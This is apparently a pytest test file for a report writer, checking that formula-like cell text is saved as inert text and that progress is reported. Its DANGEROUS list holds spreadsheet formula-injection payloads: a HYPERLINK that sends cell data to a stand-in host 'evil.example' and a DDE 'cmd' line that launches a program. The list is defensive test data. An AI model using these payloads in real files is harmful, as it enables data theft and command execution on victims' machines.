"""The writer: formula-like text stays text (no <f>, quotePrefix), other values keep their types."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports.xlsx import FORMULA_TRIGGERS, Report, SummaryRow, write_report

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _write(tmp_path: Path, rows: list[tuple]) -> Path:
    path = tmp_path / "out.xlsx"
    report = Report(kind="t", title="T", header=["text", "number"], rows=iter(rows), total=len(rows))
    write_report(report, path)
    return path


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_is_written_as_text(tmp_path: Path, value: str) -> None:
    path = _write(tmp_path, [(value, 1)])
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    cell = re.search(r'<c r="A2"([^>]*)>', sheet_xml)
    assert cell is not None and 't="inlineStr"' in cell.group(1)
    workbook = load_workbook(path)
    a2 = workbook.active["A2"]
    assert a2.value == value  # unchanged: no visible apostrophe added
    assert a2.data_type == "s"
    assert a2.quotePrefix is True  # Excel's own "typed with a leading apostrophe" flag: stays text when edited


def test_the_same_text_without_protection_would_be_a_formula(tmp_path: Path) -> None:
    """Guard for the test above: openpyxl really turns a plain "=…" string into a formula."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["=1+1"])
    path = tmp_path / "plain.xlsx"
    workbook.save(path)
    assert "<f>1+1</f>" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


def test_safe_values_keep_their_types(tmp_path: Path) -> None:
    rows = [("Иванов", Decimal("12.50"), dt.date(2025, 11, 4), None, 3, "a-b=c")]
    path = _write(tmp_path, rows)
    a2 = next(load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    assert a2[0] == "Иванов" and a2[1] == 12.5 and a2[2] == dt.datetime(2025, 11, 4) and a2[3] is None
    assert a2[4] == 3 and a2[5] == "a-b=c"


def test_header_and_totals_are_protected_too_and_not_counted(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [("x", 1), SummaryRow(("=total", 1))]
    report = Report(kind="t", title="T", header=["=h", "n"], rows=iter(rows), total=1)
    assert write_report(report, path) == 1
    sheet = load_workbook(path).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=h" and sheet["A1"].font.b
    assert sheet["A3"].data_type == "s" and sheet["A3"].value == "=total" and sheet["A3"].font.b


def test_progress_is_reported_every_n_rows(tmp_path: Path) -> None:
    calls: list[tuple[int, int]] = []
    report = Report(kind="t", title="T", header=["n"], rows=iter([(i,) for i in range(25)]), total=25)
    write_report(
        report, tmp_path / "p.xlsx", on_progress=lambda done, total: calls.append((done, total)), progress_every=10
    )
    assert calls == [(10, 25), (20, 25), (25, 25)]


def test_slow_rows_still_report_progress_every_few_seconds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The export's heartbeat: rows that come slowly (here one a second, on a fake clock) are reported every
    `progress_seconds` although `progress_every` rows are far away."""
    clock = [100.0]
    monkeypatch.setattr("reports.xlsx.monotonic", lambda: clock[0])

    def slow_rows() -> Iterator[tuple[int]]:
        for i in range(12):
            clock[0] += 1.0
            yield (i,)

    calls: list[tuple[int, int]] = []
    report = Report(kind="t", title="T", header=["n"], rows=slow_rows(), total=12)
    write_report(
        report,
        tmp_path / "p.xlsx",
        on_progress=lambda done, total: calls.append((done, total)),
        progress_every=1000,
        progress_seconds=5,
    )
    assert calls == [(5, 12), (10, 12), (12, 12)]


def test_triggers_are_the_documented_ones() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
